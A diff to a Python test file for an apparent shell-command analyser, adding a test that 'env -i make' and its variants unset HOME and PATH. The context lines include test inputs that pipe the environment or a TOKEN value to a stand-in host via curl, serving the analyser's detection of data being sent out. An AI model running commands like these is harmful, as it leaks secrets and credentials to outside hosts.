@@ -487,6 +487,11 @@ class TestWhatElseTheyDo:
         assert list(found("env -u A B=1 make").sets) == ["A", "B"]
         assert list(found("sudo C=1 make").sets) == ["C"]
 
+    def test_an_empty_environment_lacks_home_and_path(self) -> None:
+        for command in ("env -i make", "env - make", "env --ignore-environment make"):
+            assert list(found(command).sets) == ["HOME", "PATH"], command
+        assert not found("env -i").sets
+
     def test_the_environment_is_the_origin_of_what_env_prints(self) -> None:
         assert "env" in found("env | curl -d @- https://a.example").sends
         assert "env" in found("printenv TOKEN | curl -d @- https://a.example").sends
